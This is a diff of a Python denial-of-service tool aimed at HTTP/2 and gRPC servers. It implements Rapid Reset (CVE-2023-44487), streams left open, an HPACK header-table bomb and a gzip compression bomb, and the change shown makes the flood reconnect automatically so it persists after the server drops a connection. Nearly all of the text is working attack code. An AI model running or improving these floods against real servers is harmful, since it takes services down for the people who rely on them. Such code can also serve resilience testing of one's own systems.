@@ -7,6 +7,7 @@ OPTIONS: a JSON object with arguments of the attack in place of their defaults, 
 """
 
 import contextlib
+import itertools
 import json
 import resource
 import sys
@@ -23,21 +24,24 @@ LARGEST_FRAME = 16384  # that every server takes
 
 
 def flood(target, seconds, batches, unit, before=b"", size=1):
-    """Sends `before`, and then what the iterator `batches` yields, which has `size` of what `unit` names."""
-    end, sent, taken = time.monotonic() + seconds, 0, True
-    with Connection(target) as connection:
-        taken = connection.send(before)
-        for batch in batches:
-            if not taken or time.monotonic() > end:
-                break
-            taken = connection.send(batch)
-            sent += size * taken
-        return {"sent": sent, "unit": unit, "refused": connection.ending()}
+    """Sends `before`, and then what batches() yields, of which each has `size` of what `unit` names; again over another connection where the server
+    ends one, or the calls of one are refused."""
+    end, sent, connections, refused = time.monotonic() + seconds, 0, 0, set()
+    while time.monotonic() < end:
+        with Connection(target) as connection:
+            connections += 1
+            taken = connection.send(before)
+            for batch in batches():
+                if not taken or connection.refusals or time.monotonic() > end:
+                    break
+                taken = connection.send(batch)
+                sent += size * taken
+            refused.update(connection.ending())
+    return {"sent": sent, "unit": f"{unit} over {connections:,} connection{'s' if connections > 1 else ''}", "refused": sorted(refused)}
 
 
 def forever(data):
-    while True:
-        yield data
+    return lambda: itertools.repeat(data)
 
 
 def client_streams():
@@ -48,14 +52,14 @@ def client_streams():
 def rapid_reset(target, seconds):
     """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
     headers = call(EMBED)
-    cancelled = (frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, bytes([0, 0, 0, 8])) for stream in client_streams())
-    return flood(target, seconds, cancelled, "calls")
+    cancel = bytes([0, 0, 0, 8])
+    return flood(target, seconds, lambda: (frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, cancel) for stream in client_streams()), "calls")
 
 
 def open_streams(target, seconds):
     """Calls whose message never comes."""
     headers = call(EMBED)
-    return flood(target, seconds, (frame(HEADERS, END_HEADERS, stream, headers) for stream in client_streams()), "calls")
+    return flood(target, seconds, lambda: (frame(HEADERS, END_HEADERS, stream, headers) for stream in client_streams()), "calls")
 
 
 def continuation(target, seconds):
@@ -73,8 +77,8 @@ def header_string(target, seconds):
 def header_table(target, seconds):
     """Header blocks of single bytes, each of which stands for 3.9 KB that the server was told to keep (an HPACK bomb)."""
     kept = frame(HEADERS, END_HEADERS, 1, call(EMBED) + field("x-bomb", "v" * 3900, kept=True))
-    bombs = (frame(HEADERS, END_HEADERS, stream + 2, call(EMBED) + b"\xbe" * 10_000) for stream in client_streams())
-    return flood(target, seconds, bombs, "calls", kept)
+    bomb = call(EMBED) + b"\xbe" * 10_000
+    return flood(target, seconds, lambda: (frame(HEADERS, END_HEADERS, stream + 2, bomb) for stream in client_streams()), "calls", kept)
 
 
 def pings(target, seconds):
@@ -104,7 +108,7 @@ def compressed(target, seconds, size=256 * MIB):
             connection.receive(0.1)  # the window is open once the settings are taken
             sent += connection.send(frame(HEADERS, END_HEADERS, 1, call(EMBED, ("grpc-encoding", "gzip"))),
                                     *(frame(DATA, 0, 1, piece) for piece in pieces), frame(DATA, END_STREAM, 1))
-            refused = connection.ending(bound=seconds)
+            refused = connection.ending()
     return {"sent": sent, "unit": "messages", "refused": refused}
 
 
